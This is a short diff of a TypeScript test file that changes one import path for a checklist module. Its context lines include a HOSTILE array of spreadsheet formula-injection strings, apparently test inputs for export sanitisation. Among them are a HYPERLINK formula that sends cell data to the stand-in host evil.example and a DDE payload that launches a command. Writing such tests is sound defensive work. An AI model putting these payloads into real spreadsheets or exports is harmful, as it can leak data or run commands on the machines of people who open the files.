@@ -14,7 +14,7 @@ import { itemsWorkbook } from '../src/queries/items-xlsx.ts';
 import { riskCsv, type RiskReport } from '../src/report/risk.ts';
 import { writeDailyXlsx } from '../src/report/daily-render.ts';
 import type { DailyReport } from '../src/report/daily.ts';
-import { CHECKLIST_SHEET, writeChecklist, type ChecklistRow } from '../src/report/sample-checklist.ts';
+import { CHECKLIST_SHEET, writeChecklist, type ChecklistRow } from '../src/spotcheck/checklist.ts';
 import { createItems } from '../src/supervise/sync.ts';
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
